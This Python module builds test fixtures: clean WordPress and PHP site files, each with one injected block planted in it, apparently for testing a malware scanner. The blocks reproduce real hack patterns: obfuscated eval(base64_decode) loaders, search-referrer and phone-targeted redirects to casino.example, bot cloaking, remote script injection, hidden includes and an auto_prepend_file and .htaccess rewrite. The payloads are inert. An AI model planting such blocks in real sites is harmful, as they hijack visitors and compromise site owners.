"""Clean files of our own, and blocks that are put into them: inert, leading to reserved names."""

import base64
from collections.abc import Iterator
from dataclasses import dataclass

_CLASS = b"""<?php
/**
 * Keeps the opening hours.
 */
namespace Shop\\Hours;

final class Week
{
    private array $days = ['mon' => [8, 18], 'sat' => [7, 13]];

    public function isOpen(string $day, int $hour): bool
    {
        [$from, $to] = $this->days[$day] ?? [0, 0];
        return $hour >= $from && $hour < $to;
    }
}
"""
_TEMPLATE = b"""<?php get_header(); ?>
<main class="page">
<?php if (have_posts()) : while (have_posts()) : the_post(); ?>
  <h1><?php the_title(); ?></h1>
  <?php the_content(); ?>
<?php endwhile; endif; ?>
</main>
<?php get_footer(); ?>
"""
_FUNCTIONS = b"""<?php

function bakery_setup() {
    add_theme_support('title-tag');
    register_nav_menus(array('top' => 'Top'));
}
add_action('after_setup_theme', 'bakery_setup');

function bakery_price($cents) {
    return number_format($cents / 100, 2, ',', '.') . ' EUR';
}
"""
_SETTINGS = b"""<?php
define('DB_NAME', 'shop');
define('DB_USER', 'shop');
define('DB_PASSWORD', 'not a real one');
define('DB_HOST', 'localhost');
$table_prefix = 'wp_';
if (!defined('ABSPATH')) {
    define('ABSPATH', __DIR__ . '/');
}
require_once ABSPATH . 'wp-settings.php';
"""
_LOADER = b"""<?php
// The front door.
define('WP_USE_THEMES', true);
require __DIR__ . '/wp-blog-header.php';
"""
_LANGUAGE = b"""<?php
return array(
    'cart' => 'Warenkorb',
    'empty' => "Ihr Korb ist leer.\\n",
    'total' => 'Summe: %s',
);
"""
_SCRIPT = b"""(function () {
  'use strict';
  var slides = document.querySelectorAll('.slide'), at = 0;
  if (!slides.length) { return; }
  setInterval(function () {
    slides[at].classList.remove('on');
    at = (at + 1) % slides.length;
    slides[at].classList.add('on');
  }, 5000);
})();
"""
_PAGE = b"""<!DOCTYPE html>
<html lang="de">
<head><meta charset="utf-8"><title>B\xc3\xa4ckerei</title></head>
<body>
<h1>Guten Morgen</h1>
<p>Wir backen ab f\xc3\xbcnf Uhr.</p>
</body>
</html>
"""
_ACCESS = b"""# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteBase /
RewriteCond %{REQUEST_FILENAME} !-f
RewriteRule . /index.php [L]
</IfModule>
# END WordPress
"""
_MAIL = b"""<?php
$to = 'owner@bakery.example';
$lines = array();
foreach (array('name', 'phone', 'text') as $field) {
    $value = isset($_POST[$field]) ? trim($_POST[$field]) : '';
    $lines[] = $field . ': ' . str_replace(array("\\r", "\\n"), ' ', $value);
}
mail($to, 'Order', implode("\\n", $lines));
?>
<p>Thank you.</p>
"""
_HEREDOC = b"""<?php
$text = <<<HTML
<p class="note">{$note}</p>
HTML;
$raw = <<<'PLAIN'
No $variable here.
PLAIN;
echo $text, $raw;
"""
_INTERFACE = b"""<?php

declare(strict_types=1);

interface Oven
{
    public const MAX = 260;

    public function heat(int $degrees): void;
}

abstract class Bakery implements Oven
{
    abstract protected function bread(): iterable;
}
"""
_LOOPS = b"""<?php
for ($i = 0; $i < 10; $i++) {
    switch ($i % 3) {
        case 0: echo 'a'; break;
        case 1: echo 'b'; break;
        default: continue 2;
    }
}
$total = array_sum(array_map(fn ($x) => $x * 2, range(1, 5)));
"""
_INI = b"""; limits of the shop
memory_limit = 128M
upload_max_filesize = 8M
session.cookie_httponly = 1
"""
_MIXED = b"""<html><body><?php
$name = htmlspecialchars($_GET['name'] ?? 'guest', ENT_QUOTES);
?>
<p>Hello <?= $name ?>!</p>
</body></html>"""

TEMPLATES: tuple[tuple[str, bytes], ...] = (
    ("wp-content/plugins/hours/week.php", _CLASS),
    ("wp-content/themes/bakery/page.php", _TEMPLATE),
    ("wp-content/themes/bakery/functions.php", _FUNCTIONS),
    ("wp-config.php", _SETTINGS),
    ("index.php", _LOADER),
    ("lang/de.php", _LANGUAGE),
    ("js/slider.js", _SCRIPT),
    ("about.html", _PAGE),
    (".htaccess", _ACCESS),
    ("order.php", _MAIL),
    ("inc/note.php", _HEREDOC),
    ("src/Oven.php", _INTERFACE),
    ("inc/loops.php", _LOOPS),
    (".user.ini", _INI),
    ("hello.php", _MIXED),
)


def _windows(content: bytes) -> bytes:
    return content.replace(b"\n", b"\r\n")


def _marked(content: bytes) -> bytes:
    return b"\xef\xbb\xbf" + content.rstrip(b"\n")


def clean_files() -> list[tuple[str, bytes]]:
    """45 clean files: each template with Unix and Windows line ends, and with a byte order mark
    and no last line end.
    """
    forms = (("a", bytes), ("b", _windows), ("c", _marked))
    return [
        (f"{name}/{path}", form(content)) for name, form in forms for path, content in TEMPLATES
    ]


_HARMLESS = base64.b64encode(b"echo 'nothing to see';").decode()
_TARGET = "http://casino.example/win"
_SEARCH = "$_SERVER['HTTP_REFERER']"
_AGENT = "$_SERVER['HTTP_USER_AGENT']"


@dataclass(frozen=True, slots=True)
class Block:
    """A block of PHP, without its tags."""

    name: str
    code: str


BLOCKS = (
    Block("eval-base64", f"eval(base64_decode('{_HARMLESS}'));"),
    Block("eval-comment", f'/*8f3a1*/ @eval(/*x*/base64_decode("{_HARMLESS}")); /*8f3a1*/'),
    Block("eval-gzip", f"@eval(gzinflate(str_rot13(base64_decode('{_HARMLESS}'))));"),
    Block(
        "referrer",
        f"if (isset({_SEARCH}) && preg_match('/google|bing|yahoo/i', {_SEARCH})) {{\n"
        f"    header('Location: {_TARGET}');\n    exit;\n}}",
    ),
    Block(
        "phone",
        f"if (stripos({_AGENT}, 'android') !== false || stripos({_AGENT}, 'iphone') !== false) {{"
        f" header('Location: {_TARGET}', true, 302); exit; }}",
    ),
    Block(
        "cookie-once",
        "if (!isset($_COOKIE['_wpseen'])) { setcookie('_wpseen', '1', time() + 86400);"
        f" if (strpos({_SEARCH} ?? '', 'google.') !== false) {{ header('Location: {_TARGET}'); die(); }} }}",
    ),
    Block(
        "is-bot",
        f"function _is_b0t() {{ return (bool) preg_match('/bot|crawl|spider/i', {_AGENT}); }}\n"
        f"if (!_is_b0t()) {{ echo '<script src=\"http://cdn.casino.example/j.js\"></script>'; }}",
    ),
    Block(
        "decoded-target",
        f"$_u = base64_decode('{base64.b64encode(_TARGET.encode()).decode()}');"
        f" if (preg_match('#google|bing#', {_SEARCH} ?? '')) {{ header(\"Location: $_u\"); exit(); }}",
    ),
    Block("hidden-include", '@include "\\x2ftmp\\x2f.font-cache\\x2ffavicon.ico";'),
    Block(
        "fetch-echo",
        f"if (strpos({_AGENT}, 'Googlebot') !== false) {{ echo @file_get_contents("
        "'http://links.casino.example/?h=' . urlencode($_SERVER['HTTP_HOST'])); exit; }",
    ),
    Block(
        "assembled",
        f"$_f = 'bas' . 'e64' . '_de' . 'code'; $_e = 'ev' . 'al'; eval($_f('{_HARMLESS}'));",
    ),
    Block(
        "chr",
        "$_c = chr(98).chr(97).chr(115).chr(101).chr(54).chr(52).chr(95).chr(100).chr(101)"
        f".chr(99).chr(111).chr(100).chr(101); eval($_c('{_HARMLESS}'));",
    ),
    Block(
        "ob-start",
        "ob_start(function ($page) { return str_replace('</body>',"
        " '<script src=\"http://cdn.casino.example/a.js\"></script></body>', $page); });",
    ),
    Block(
        "admin-excluded",
        "if (!preg_match('/wp-(admin|login)/', $_SERVER['REQUEST_URI']) &&"
        f" preg_match('/(google|yandex)/', {_SEARCH} ?? '')) {{ header('Location: {_TARGET}'); exit; }}",
    ),
    Block(
        "meta-refresh",
        f"if (strstr({_SEARCH} ?? '', 'google')) {{"
        f' print(\'<meta http-equiv="refresh" content="0;url={_TARGET}">\'); exit; }}',
    ),
)
SCRIPT_BLOCKS = (
    f"if (/google|bing/.test(document.referrer)) {{ location.replace('{_TARGET}'); }}",
    "document.write('<script src=\"http://cdn.casino.example/j.js\"><\\/script>');",
)
ACCESS_BLOCK = (
    "RewriteCond %{HTTP_REFERER} (google|bing|yahoo) [NC]\n"
    f"RewriteRule ^.*$ {_TARGET} [R=302,L]\n"
)
INI_BLOCK = "auto_prepend_file = /tmp/.font-cache/favicon.ico\n"
PAGE_BLOCK = '<script src="http://cdn.casino.example/j.js"></script>\n'


@dataclass(frozen=True, slots=True)
class Planted:
    """A file with a block in it."""

    path: str
    clean: bytes
    style: str
    start: int
    block: bytes

    @property
    def content(self) -> bytes:
        """What lies on the disk."""
        return self.clean[: self.start] + self.block + self.clean[self.start :]

    @property
    def span(self) -> tuple[int, int]:
        """Where the block is."""
        return self.start, self.start + len(self.block)


def planted_files(files: list[tuple[str, bytes]]) -> Iterator[Planted]:
    """Each file with one block, styles and places taken in turn."""
    for number, (path, clean) in enumerate(files):
        yield plant(path, clean, number)


def plant(path: str, clean: bytes, number: int) -> Planted:
    """A file with the block and at the place of this number."""
    newline = b"\r\n" if b"\r\n" in clean else b"\n"

    def made(style: str, start: int, text: str) -> Planted:
        block = text.encode().replace(b"\n", newline)
        return Planted(path, clean, style, start, block)

    mark = 3 if clean.startswith(b"\xef\xbb\xbf") else 0
    if path.endswith(".js"):
        text = SCRIPT_BLOCKS[number % len(SCRIPT_BLOCKS)]
        return made("script", *((len(clean), "\n" + text) if number % 2 else (mark, text + "\n")))
    if path.endswith(".html"):
        return made("page", clean.index(b"</body>"), PAGE_BLOCK)
    if path.endswith(".htaccess"):
        return made("rewrite", mark, ACCESS_BLOCK)
    if path.endswith(".ini"):
        return made("prepend", mark, INI_BLOCK)
    block = BLOCKS[number % len(BLOCKS)]
    place, start, text = _place(clean, block.code, number // len(BLOCKS), mark)
    return made(f"{block.name} {place}", start, text)


def _place(clean: bytes, code: str, turn: int, mark: int) -> tuple[str, int, str]:
    """Before the first tag, right after it, or at the end; as the file allows."""
    opened = clean.find(b"<?php")
    line_end = clean.find(b"\n", opened)
    closed = clean.rstrip().endswith((b"?>", b">"))
    strict = b"declare(" in clean or b"namespace " in clean
    if (
        turn % 3 == 1
        and line_end > 0
        and not strict
        and clean[opened + 5 : line_end].strip() == b""
    ):
        return "after the tag", line_end + 1, code + "\n"
    if turn % 3 == 2 and not strict:
        text = f"\n<?php {code} ?>" if closed else f"\n{code}\n"
        return "at the end", len(clean), text
    return "before all", mark, f"<?php {code} ?>"
